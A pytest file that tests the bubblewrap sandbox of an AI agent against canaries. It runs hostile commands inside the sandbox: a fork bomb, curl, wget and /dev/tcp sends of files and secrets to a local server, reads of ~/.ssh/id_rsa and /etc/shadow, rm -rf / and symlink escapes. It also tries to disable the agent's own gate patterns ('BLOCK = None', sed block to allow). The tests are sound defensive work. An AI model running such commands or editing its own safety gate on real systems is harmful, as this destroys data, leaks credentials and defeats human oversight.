"""Hostile commands run for real inside the kernel sandbox (bubblewrap), against canaries.

Each test builds a throwaway workspace under a temporary folder with canaries around it (see
helpers/canaries.py: a file outside the workspace, a secret in a fake home, the gate's source
inside the workspace, an HTTP server on 127.0.0.1), checks with harmless probes that the
sandbox holds, and only then runs the hostile command. After each one every canary must be
intact and the server must have got nothing. Every call is bounded by a wall-clock timeout.
"""

import os
from pathlib import Path
import shutil
import subprocess
import sys
import uuid

import pytest

from helpers.canaries import CanaryServer, Canaries
from maxim_common.errors import ERROR_TIMEOUT, ERROR_UNAVAILABLE
from maxim_core.tools.base import ToolError
from maxim_core.tools.code import code_tools
from maxim_core.tools.filesystem import filesystem_tools, Sandbox
from maxim_core.tools.sandbox import (Limits, own_paths, probe, ProcessSandbox,
                                      SandboxUnavailable)


@pytest.fixture
def canaries(tmp_path):
    server = CanaryServer(max_s=600).start()
    try:
        assert server.reachable()
        c = Canaries(tmp_path, server)
        reason = c.verify()
        if reason is not None:
            pytest.skip(f'the kernel sandbox cannot be used here: {reason}')
        c.reset_workspace()
        yield c
    finally:
        server.stop()


def run(c, line, timeout_s=5.0, **kw):
    result = c.sandbox(**kw).run(['bash', '--noprofile', '--norc', '-c', line],
                                 timeout_s=timeout_s)
    assert not c.check(result), (line, c.check(result), result.stderr[-300:])
    return result


def leftover(marker: str) -> list[int]:
    """Host processes whose command line holds `marker`."""
    found = []
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmd = Path(f'/proc/{pid}/cmdline').read_bytes()
        except OSError:
            continue
        if marker.encode() in cmd:
            found.append(int(pid))
    return found


# Forks children that wait, until the kernel refuses: how many processes one call can have.
COUNT_FORKS = ('import os, time\n'
               'n = 0\n'
               'for _ in range(200):\n'
               '    try:\n'
               '        pid = os.fork()\n'
               '    except OSError:\n'
               '        break\n'
               '    if pid == 0:\n'
               '        time.sleep(5)\n'
               '        os._exit(0)\n'
               '    n += 1\n'
               'print(n)')


def by_name(tools):
    return {t.name: t for t in tools}


def test_fork_bomb_is_bounded_by_the_process_limit(canaries):
    counted = run(canaries, 'python3 -c "%s"' % COUNT_FORKS, timeout_s=15)
    assert 0 < int(counted.stdout.split()[-1]) < 64      # Limits.processes in the tests
    bomb = run(canaries, ':(){ :|:& };:; sleep 2', timeout_s=3)
    assert 'Resource temporarily unavailable' in bomb.stderr      # the limit was reached
    after = run(canaries, 'echo alive')                   # the machine still forks
    assert after.stdout.strip() == 'alive'


def test_yes_into_a_file_is_bounded_by_the_file_size_limit(canaries):
    result = run(canaries, 'yes > big.txt', timeout_s=20)
    assert not result.timed_out and result.exit_code != 0    # SIGXFSZ
    assert (canaries.workspace / 'big.txt').stat().st_size <= 4 * 1024 * 1024


def test_memory_of_the_whole_call_is_bounded(canaries):
    if not probe().memory_root:
        pytest.skip(f'no memory cgroup here: {probe().reason}')
    hog = "import time; x = b'x' * (100 << 20); time.sleep(1)"
    result = run(canaries, f'for i in 1 2 3 4; do python3 -c "{hog}" && echo ok & done; wait',
                 timeout_s=20)
    assert result.stdout.count('ok') < 4          # 4 x 100 MiB > the call's 256 MiB
    alone = run(canaries, f'python3 -c "{hog}" && echo ok', timeout_s=20)
    assert alone.stdout.strip() == 'ok'           # one of them fits


def test_output_flood_is_bounded_in_memory(canaries):
    result = run(canaries, 'yes', timeout_s=1)
    assert result.timed_out and len(result.stdout) <= 64_000 and result.stdout_dropped > 0


def test_endless_command_is_killed_with_its_children(canaries):
    marker = str(900000 + uuid.uuid4().int % 99999)
    result = run(canaries, f'sleep {marker} & sleep {marker} & while :; do :; done',
                 timeout_s=1)
    assert result.timed_out
    assert leftover(f'sleep\x00{marker}') == []


def test_background_processes_die_with_the_call(canaries):
    marker = str(800000 + uuid.uuid4().int % 99999)
    result = run(canaries, f'setsid nohup sleep {marker} >/dev/null 2>&1 & disown; echo gone',
                 timeout_s=5)
    assert result.stdout.strip() == 'gone' and not result.timed_out
    assert leftover(f'sleep\x00{marker}') == []


def test_writes_through_symlinks_stay_inside(canaries):
    c = canaries
    run(c, f'ln -s {c.outside_file} link && echo pwned > link; '
           f'ln -s {c.outside} dirlink && echo pwned > dirlink/new; '
           f'ln -s {c.secret_file} key && cat key; ln -s /etc/passwd pw && echo x >> pw')
    t = by_name(filesystem_tools(Sandbox('active', c.workspace, read_roots=[c.outside],
                                         hidden=[c.home / '.maxim'])))
    (c.workspace / 'planted').symlink_to(c.outside_file)
    (c.workspace / 'planted_dir').symlink_to(c.outside, target_is_directory=True)
    (c.workspace / 'planted_key').symlink_to(c.secret_file)
    for args in ({'path': 'planted', 'content': 'x'}, {'path': 'planted_dir/new', 'content': 'x'},
                 {'path': 'maxim_gate/../planted', 'content': 'x'}):
        assert not t['write_file'].run(args).success, args
    assert not t['edit_file'].run({'path': 'planted', 'old_text': 'outside',
                                   'new_text': 'x'}).success
    assert not t['read_file'].run({'path': 'planted_key'}).success
    assert not c.check()


def test_network_is_cut_even_to_loopback(canaries):
    c = canaries
    port = c.server.port
    run(c, f'curl -s -m 2 -d @notes.txt http://127.0.0.1:{port}/ ; '
           f'wget -q -T 2 -O- http://127.0.0.1:{port}/ ; '
           f'exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3')
    run(c, f'{sys.executable} -c "import urllib.request as u; '
           f'u.urlopen(\'http://127.0.0.1:{port}/\', data=b\'x\', timeout=2)"')
    assert c.server.connections == []


def test_secrets_and_memory_are_invisible(canaries):
    c = canaries
    result = run(c, f'cat ~/.ssh/id_rsa {c.secret_file} {c.memory_db} ~/.maxim/memory.db '
                    '/etc/shadow; ls -la ~ /root /home; grep -r CANARY-SECRET / '
                    '--include=id_rsa 2>/dev/null | head -1', timeout_s=10)
    assert c.secret not in result.stdout


def test_interpreter_one_liners_cannot_delete_or_send(canaries):
    c = canaries
    port = c.server.port
    run(c, f'python3 -c "import shutil; shutil.rmtree(\'{c.outside}\')"; '
           f'python3 -c "import os; os.remove(\'{c.outside_file}\')"; '
           f'perl -e \'unlink "{c.outside_file}"\'; '
           f'python3 -c "import socket; s=socket.create_connection((\'127.0.0.1\', {port}), 2);'
           f' s.send(open(\'{c.secret_file}\').read().encode())"')


def test_a_memory_database_named_anywhere_is_hidden_with_its_journal(canaries):
    c = canaries
    db = c.outside / 'memory.db'
    wal = c.outside / 'memory.db-wal'
    db.write_text(c.secret)
    wal.write_text(c.secret)
    try:
        result = c.sandbox(hidden=[db]).run(['bash', '-c', f'cat {db} {wal}; ls {c.outside}'],
                                            timeout_s=5)
        assert c.secret not in result.stdout and 'canary.txt' in result.stdout
    finally:
        db.unlink()
        wal.unlink()


def test_the_gate_source_in_the_workspace_is_read_only(canaries):
    c = canaries
    run(c, 'echo "BLOCK = None" > maxim_gate/patterns.py; rm -rf maxim_gate; '
           'mv maxim_gate gone; sed -i s/block/allow/ maxim_gate/patterns.py; rm -rf *')
    assert (c.gate / 'patterns.py').read_text() == 'BLOCK = "block"\n'


def test_history_and_workspace_damage_stays_in_the_workspace(canaries):
    c = canaries
    run(c, 'git init -q . && rm -rf .git ../outside ../home; rm -rf ~; rm -rf / 2>/dev/null',
        timeout_s=10)


def test_own_code_is_protected_by_default(tmp_path):
    paths = own_paths()
    gate = Path(__file__).resolve().parent.parent / 'maxim_core' / 'maxim_core'
    assert any(p == gate.resolve() or p in gate.resolve().parents for p in paths)
    sandbox = Sandbox('singularity', tmp_path)
    for target in (gate / 'fear' / 'patterns.py', gate / 'tools' / 'filesystem.py'):
        t = by_name(filesystem_tools(sandbox))
        out = t['write_file'].run({'path': str(target), 'content': 'x'})
        assert not out.success and 'never writable' in out.error_msg
    out = by_name(filesystem_tools(sandbox))['read_file'].run({'path': '~/.maxim/memory.db'})
    assert not out.success


def test_own_checkout_as_workspace_keeps_the_mind_read_only():
    """Without running anything there: the mind's checkout as a workspace gets its code, its
    venv and its test configuration bound read-only again, and the file tools refuse them."""
    if not probe().ok:
        pytest.skip(probe().reason)
    repo = Path(__file__).resolve().parent.parent
    sb = ProcessSandbox(repo)
    args = sb.bwrap_args(probe(), repo)
    ro = {args[i + 1] for i, a in enumerate(args) if a == '--ro-bind'}
    assert args[args.index('--bind') + 1] == str(repo)
    for own in ('maxim_common', 'maxim_core', 'maxim_memory', 'maxim_bringup', 'scripts',
                'conftest.py'):
        assert str((repo / own).resolve()) in ro, own
    venv = Path(sys.prefix).resolve()
    assert str(venv) in ro or repo not in venv.parents
    policy = Sandbox('active', repo)
    for path in ('maxim_core/maxim_core/fear/patterns.py', 'maxim_bringup/config/robot.yaml',
                 'conftest.py', 'scripts/bootstrap.sh'):
        with pytest.raises(ToolError, match='never writable'):
            policy.check_write(path)
    assert policy.check_write('docs/notes.md') == repo / 'docs' / 'notes.md'


# -- ordinary work ---------------------------------------------------------------------------
@pytest.mark.skipif(shutil.which('git') is None, reason='git is not installed')
def test_ordinary_workspace_work_runs_in_the_sandbox(canaries):
    c = canaries
    ws = c.workspace
    (ws / 'tests').mkdir()
    (ws / 'tests' / 'test_a.py').write_text('def test_ok():\n    assert 1 + 1 == 2\n')
    (ws / 'script.py').write_text('import sys\nprint("ran", sys.argv[1])\n')
    sandbox = Sandbox('active', ws, process=c.sandbox(limits=Limits()))
    fs, code = by_name(filesystem_tools(sandbox)), by_name(code_tools(sandbox))
    out = fs['bash'].run({'command': 'python3 script.py yes'})
    assert out.success and out.output['stdout'].strip() == 'ran yes'
    tests = code['run_tests'].run({'path': 'tests', 'timeout_s': 60})
    assert tests.success and tests.output['passed'] == 1, tests.output
    assert fs['bash'].run({'command': 'git init -q && git status --short'}).success
    assert code['git_commit'].run({'message': 'first'}).success
    (ws / 'script.py').write_text('print("changed")\n')
    assert 'changed' in code['git_diff'].run({}).output['diff']
    done = code['git_commit'].run({'message': 'second', 'paths': 'script.py'})
    assert done.success and len(done.output['commit']) == 40
    log = fs['bash'].run({'command': 'git log --oneline'})
    assert log.output['stdout'].count('\n') == 2
    assert not c.check()


# -- fail closed -----------------------------------------------------------------------------
def test_without_bwrap_tools_that_run_processes_are_refused(tmp_path):
    missing = str(tmp_path / 'no-such-bwrap')
    refused = ProcessSandbox(tmp_path, bwrap=missing)
    assert not refused.available().ok
    with pytest.raises(SandboxUnavailable, match='refused'):
        refused.run(['true'], timeout_s=5)
    t = by_name(filesystem_tools(Sandbox('active', tmp_path, process=refused)))
    out = t['bash'].run({'command': 'echo hi'})
    assert not out.success and out.error_code == ERROR_UNAVAILABLE
    assert 'bwrap' in out.error_msg
    code = by_name(code_tools(Sandbox('active', tmp_path, process=refused)))
    assert code['run_tests'].run({}).error_code == ERROR_UNAVAILABLE
    fallback = ProcessSandbox(tmp_path, bwrap=missing, fallback='python')
    t = by_name(filesystem_tools(Sandbox('active', tmp_path, process=fallback)))
    out = t['bash'].run({'command': 'echo hi'})
    assert out.success and out.output['stdout'].strip() == 'hi'
    assert 'WARNING' in out.output['warning']
    with pytest.raises(ValueError):
        ProcessSandbox(tmp_path, fallback='none')
    with pytest.raises(ValueError, match='never visible'):
        ProcessSandbox(tmp_path, home=tmp_path / 'home')       # the home inside the workspace


def test_timeout_is_reported_as_a_timeout(tmp_path):
    if not probe().ok:
        pytest.skip(probe().reason)
    t = by_name(filesystem_tools(Sandbox('singularity', tmp_path)))
    out = t['bash'].run({'command': 'sleep 30', 'timeout_s': 0.5})
    assert not out.success and out.error_code == ERROR_TIMEOUT


def test_probe_says_how_processes_are_bounded():
    found = probe()
    if not found.ok:
        pytest.skip(found.reason)
    assert found.pids in ('rlimit', 'cgroup', 'none') and found.reason
    assert '--unshare-user' in found.flags
    assert subprocess.run([found.bwrap, '--version'], capture_output=True,
                          timeout=10).returncode == 0
